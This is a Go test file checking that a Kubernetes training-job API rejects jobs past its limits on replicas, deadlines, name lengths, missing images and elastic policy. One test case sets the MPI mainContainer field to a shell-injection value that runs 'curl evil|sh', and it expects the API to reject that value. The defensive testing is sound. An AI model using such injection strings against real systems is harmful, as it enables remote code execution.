package v1_test

import (
	"context"
	"strconv"
	"strings"
	"testing"

	corev1 "k8s.io/api/core/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/utils/ptr"
	"sigs.k8s.io/controller-runtime/pkg/client"

	trainingv1 "github.com/kfup/kfup/components/training/api/v1"
	"github.com/kfup/kfup/components/training/builders"
)

// name is a DNS-1035 label of n characters.
func name(n int) string { return "j" + strings.Repeat("a", n-1) }

func tfJob(jobName, ns string) *trainingv1.TFJob {
	return builders.MakeTFJob(jobName, ns).
		Replica("Evaluator", builders.MakeReplica(1, "tensorflow", img)).
		Replica("Worker", builders.MakeReplica(2, "tensorflow", img)).Obj()
}

func mpiJob(jobName, ns string) *trainingv1.MPIJob {
	return &trainingv1.MPIJob{
		ObjectMeta: metav1.ObjectMeta{Name: jobName, Namespace: ns},
		Spec: trainingv1.MPIJobSpec{MPIReplicaSpecs: map[trainingv1.ReplicaType]*trainingv1.ReplicaSpec{
			"Launcher": builders.MakeReplica(1, "mpi", img, "mpirun", "prog").Obj(),
			"Worker":   builders.MakeReplica(2, "mpi", img).Obj(),
		}},
	}
}

func paddleJob(jobName, ns string) *trainingv1.PaddleJob {
	return &trainingv1.PaddleJob{
		ObjectMeta: metav1.ObjectMeta{Name: jobName, Namespace: ns},
		Spec: trainingv1.PaddleJobSpec{PaddleReplicaSpecs: map[trainingv1.ReplicaType]*trainingv1.ReplicaSpec{
			"Worker": builders.MakeReplica(2, "paddle", img).Obj(),
		}},
	}
}

func pytorch(jobName, ns string, mutate func(*trainingv1.PyTorchJob)) *trainingv1.PyTorchJob {
	j := validJob(ns).Obj()
	j.Name = jobName
	mutate(j)
	return j
}

// The limits of api/v1/limits.go hold on the API server: a job at each limit is accepted,
// one past it is refused at once with the field and the limit named, and so are jobs no
// pod of which could be created (a container without an image) or whose policies
// contradict themselves.
func TestJobLimitsAreEnforced(t *testing.T) {
	ns := env.Namespace(t)
	worker := func(j *trainingv1.PyTorchJob) *trainingv1.ReplicaSpec { return j.Spec.PyTorchReplicaSpecs["Worker"] }
	cases := []struct {
		name      string
		job       client.Object
		wantInMsg []string // nil: accepted
	}{
		{name: "replicas at the limit", job: pytorch("replicas-max", ns, func(j *trainingv1.PyTorchJob) {
			worker(j).Replicas = ptr.To[int32](trainingv1.MaxReplicas)
		})},
		{name: "replicas past the limit", job: pytorch("replicas-past", ns, func(j *trainingv1.PyTorchJob) {
			worker(j).Replicas = ptr.To[int32](trainingv1.MaxReplicas + 1)
		}), wantInMsg: []string{"spec.pytorchReplicaSpecs.Worker.replicas", "less than or equal to " + strconv.Itoa(trainingv1.MaxReplicas)}},
		{name: "deadline at the limit", job: pytorch("deadline-max", ns, func(j *trainingv1.PyTorchJob) {
			j.Spec.RunPolicy.ActiveDeadlineSeconds = ptr.To[int64](trainingv1.MaxActiveDeadlineSeconds)
		})},
		{name: "deadline past the limit", job: pytorch("deadline-past", ns, func(j *trainingv1.PyTorchJob) {
			j.Spec.RunPolicy.ActiveDeadlineSeconds = ptr.To[int64](1 << 62)
		}), wantInMsg: []string{"spec.runPolicy.activeDeadlineSeconds", "less than or equal to " + strconv.Itoa(trainingv1.MaxActiveDeadlineSeconds)}},
		{name: "ttl past the limit", job: pytorch("ttl-past", ns, func(j *trainingv1.PyTorchJob) {
			j.Spec.RunPolicy.TTLSecondsAfterFinished = ptr.To[int32](trainingv1.MaxTTLSecondsAfterFinished + 1)
		}), wantInMsg: []string{"spec.runPolicy.ttlSecondsAfterFinished", "less than or equal to " + strconv.Itoa(trainingv1.MaxTTLSecondsAfterFinished)}},
		{name: "backoffLimit at the limit", job: pytorch("backoff-max", ns, func(j *trainingv1.PyTorchJob) {
			j.Spec.RunPolicy.BackoffLimit = ptr.To[int32](trainingv1.MaxBackoffLimit)
		})},
		{name: "backoffLimit past the limit", job: pytorch("backoff-past", ns, func(j *trainingv1.PyTorchJob) {
			j.Spec.RunPolicy.BackoffLimit = ptr.To[int32](trainingv1.MaxBackoffLimit + 1)
		}), wantInMsg: []string{"spec.runPolicy.backoffLimit", "less than or equal to " + strconv.Itoa(trainingv1.MaxBackoffLimit)}},

		{name: "minAvailable at the limit", job: pytorch("minavail-max", ns, func(j *trainingv1.PyTorchJob) {
			j.Spec.RunPolicy.SchedulingPolicy = &trainingv1.SchedulingPolicy{MinAvailable: ptr.To[int32](trainingv1.MaxMinAvailable)}
		})},
		{name: "minAvailable past the limit", job: pytorch("minavail-past", ns, func(j *trainingv1.PyTorchJob) {
			j.Spec.RunPolicy.SchedulingPolicy = &trainingv1.SchedulingPolicy{MinAvailable: ptr.To[int32](trainingv1.MaxMinAvailable + 1)}
		}), wantInMsg: []string{"spec.runPolicy.schedulingPolicy.minAvailable", "less than or equal to " + strconv.Itoa(trainingv1.MaxMinAvailable)}},
		{name: "minAvailable zero", job: pytorch("minavail-zero", ns, func(j *trainingv1.PyTorchJob) {
			j.Spec.RunPolicy.SchedulingPolicy = &trainingv1.SchedulingPolicy{MinAvailable: ptr.To[int32](0)}
		}), wantInMsg: []string{"spec.runPolicy.schedulingPolicy.minAvailable", "greater than or equal to 1"}},
		{name: "scheduleTimeoutSeconds at the limit", job: pytorch("schedtimeout-max", ns, func(j *trainingv1.PyTorchJob) {
			j.Spec.RunPolicy.SchedulingPolicy = &trainingv1.SchedulingPolicy{ScheduleTimeoutSeconds: ptr.To[int32](trainingv1.MaxScheduleTimeoutSeconds)}
		})},
		{name: "scheduleTimeoutSeconds past the limit", job: pytorch("schedtimeout-past", ns, func(j *trainingv1.PyTorchJob) {
			j.Spec.RunPolicy.SchedulingPolicy = &trainingv1.SchedulingPolicy{ScheduleTimeoutSeconds: ptr.To[int32](trainingv1.MaxScheduleTimeoutSeconds + 1)}
		}), wantInMsg: []string{"spec.runPolicy.schedulingPolicy.scheduleTimeoutSeconds", "less than or equal to " + strconv.Itoa(trainingv1.MaxScheduleTimeoutSeconds)}},
		{name: "slotsPerWorker at the limit", job: func() client.Object {
			j := mpiJob("slots-max", ns)
			j.Spec.SlotsPerWorker = ptr.To[int32](trainingv1.MaxSlotsPerWorker)
			return j
		}()},
		{name: "slotsPerWorker past the limit", job: func() client.Object {
			j := mpiJob("slots-past", ns)
			j.Spec.SlotsPerWorker = ptr.To[int32](trainingv1.MaxSlotsPerWorker + 1)
			return j
		}(), wantInMsg: []string{"spec.slotsPerWorker", "less than or equal to " + strconv.Itoa(trainingv1.MaxSlotsPerWorker)}},

		{name: "PyTorchJob name at the limit", job: pytorch(name(trainingv1.MaxJobNameLength), ns, func(*trainingv1.PyTorchJob) {})},
		{name: "PyTorchJob name past the limit", job: pytorch(name(trainingv1.MaxJobNameLength+1), ns, func(*trainingv1.PyTorchJob) {}),
			wantInMsg: []string{"name must be at most " + strconv.Itoa(trainingv1.MaxJobNameLength) + " characters"}},
		{name: "TFJob name at the limit", job: tfJob(name(trainingv1.MaxTFJobNameLength), ns)},
		{name: "TFJob name past the limit", job: tfJob(name(trainingv1.MaxTFJobNameLength+1), ns),
			wantInMsg: []string{"name must be at most " + strconv.Itoa(trainingv1.MaxTFJobNameLength) + " characters", "-evaluator-999"}},
		{name: "MPIJob name at the limit", job: mpiJob(name(trainingv1.MaxJobNameLength), ns)},
		{name: "MPIJob name past the limit", job: mpiJob(name(trainingv1.MaxJobNameLength+1), ns),
			wantInMsg: []string{"name must be at most " + strconv.Itoa(trainingv1.MaxJobNameLength) + " characters"}},

		{name: "container without an image", job: pytorch("no-image", ns, func(j *trainingv1.PyTorchJob) {
			worker(j).Template.Spec.Containers[0].Image = ""
		}), wantInMsg: []string{"spec.pytorchReplicaSpecs[Worker]", "every container needs an image"}},
		{name: "second container without an image", job: pytorch("no-image-2", ns, func(j *trainingv1.PyTorchJob) {
			worker(j).Template.Spec.Containers = append(worker(j).Template.Spec.Containers, corev1.Container{Name: "logger"})
		}), wantInMsg: []string{"spec.pytorchReplicaSpecs[Worker]", "every container needs an image"}},
		{name: "init container without an image", job: pytorch("no-init-image", ns, func(j *trainingv1.PyTorchJob) {
			worker(j).Template.Spec.InitContainers = []corev1.Container{{Name: "fetch"}}
		}), wantInMsg: []string{"spec.pytorchReplicaSpecs[Worker]", "every init container needs an image"}},
		{name: "MPIJob launcher without an image", job: func() client.Object {
			j := mpiJob("mpi-no-image", ns)
			j.Spec.MPIReplicaSpecs["Launcher"].Template.Spec.Containers[0].Image = ""
			return j
		}(), wantInMsg: []string{"spec.mpiReplicaSpecs[Launcher]", "every container needs an image"}},

		{name: "elastic policy within bounds", job: pytorch("elastic-ok", ns, func(j *trainingv1.PyTorchJob) {
			j.Spec.ElasticPolicy = &trainingv1.ElasticPolicy{MinReplicas: ptr.To[int32](1), MaxReplicas: ptr.To[int32](trainingv1.MaxReplicas)}
		})},
		{name: "elastic minReplicas above maxReplicas", job: pytorch("elastic-min-max", ns, func(j *trainingv1.PyTorchJob) {
			j.Spec.ElasticPolicy = &trainingv1.ElasticPolicy{MinReplicas: ptr.To[int32](3), MaxReplicas: ptr.To[int32](2)}
		}), wantInMsg: []string{"spec.elasticPolicy", "minReplicas must not exceed elasticPolicy.maxReplicas"}},
		{name: "elastic maxReplicas past the limit", job: pytorch("elastic-max", ns, func(j *trainingv1.PyTorchJob) {
			j.Spec.ElasticPolicy = &trainingv1.ElasticPolicy{MaxReplicas: ptr.To[int32](trainingv1.MaxReplicas + 1)}
		}), wantInMsg: []string{"spec.elasticPolicy.maxReplicas", "less than or equal to " + strconv.Itoa(trainingv1.MaxReplicas)}},
		{name: "elastic minReplicas 0", job: pytorch("elastic-zero", ns, func(j *trainingv1.PyTorchJob) {
			j.Spec.ElasticPolicy = &trainingv1.ElasticPolicy{MinReplicas: ptr.To[int32](0)}
		}), wantInMsg: []string{"spec.elasticPolicy.minReplicas", "greater than or equal to 1"}},
		{name: "Paddle elastic minReplicas above maxReplicas", job: func() client.Object {
			j := paddleJob("paddle-min-max", ns)
			j.Spec.ElasticPolicy = &trainingv1.PaddleElasticPolicy{MinReplicas: ptr.To[int32](4), MaxReplicas: ptr.To[int32](2)}
			return j
		}(), wantInMsg: []string{"spec.elasticPolicy", "minReplicas must not exceed elasticPolicy.maxReplicas"}},

		{name: "MPI mainContainer a container name", job: func() client.Object {
			j := mpiJob("main-ok", ns)
			j.Spec.MainContainer = "mpi"
			return j
		}()},
		{name: "MPI mainContainer not a DNS-1123 label", job: func() client.Object {
			j := mpiJob("main-shell", ns)
			j.Spec.MainContainer = `mpi";curl evil|sh;"`
			return j
		}(), wantInMsg: []string{"spec.mainContainer", "should match"}},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			err := env.Client.Create(context.Background(), tc.job)
			if tc.wantInMsg == nil {
				if err != nil {
					t.Fatalf("job within the limits rejected: %v", err)
				}
				return
			}
			if err == nil {
				t.Fatalf("job past a limit accepted")
			}
			if !apierrors.IsInvalid(err) {
				t.Fatalf("want an Invalid error from the API server, got %v", err)
			}
			for _, want := range tc.wantInMsg {
				if !strings.Contains(err.Error(), want) {
					t.Errorf("error %q does not mention %q", err.Error(), want)
				}
			}
		})
	}
}
